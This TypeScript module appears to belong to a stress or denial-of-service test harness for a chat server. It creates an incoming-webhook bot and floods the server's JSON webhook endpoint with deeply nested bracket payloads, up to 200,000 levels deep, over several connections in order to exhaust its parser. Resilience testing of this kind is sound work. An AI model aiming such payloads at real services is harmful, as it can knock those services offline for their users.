import { newBot } from '../../new-bot.ts';
import { type Attack, repeat } from '../attack.ts';

const connections = 3;
const incomingWebhook = 2;
const payloads = [
  nested(60, '1,'.repeat(4_000)),
  nested(60, '1,'.repeat(100_000)),
  nested(4_200),
  nested(200_000),
];

export const nestedJson: Attack = {
  name: 'sends nested brackets to an incoming webhook',
  async run(scene) {
    const bot = await newBot(scene.member, { bot_type: incomingWebhook });
    const address = `${scene.site}/api/v1/external/json?api_key=${bot.apiKey}`;
    const headers = { 'content-type': 'application/json' };
    await repeat(scene, connections, async (turn) => {
      const body = payloads[turn % payloads.length];
      const { status } = await fetch(address, { method: 'POST', headers, body });
      return status;
    });
  },
};

function nested(depth: number, beginning = ''): string {
  return `${'['.repeat(depth)}${beginning}1${']'.repeat(depth)}`;
}
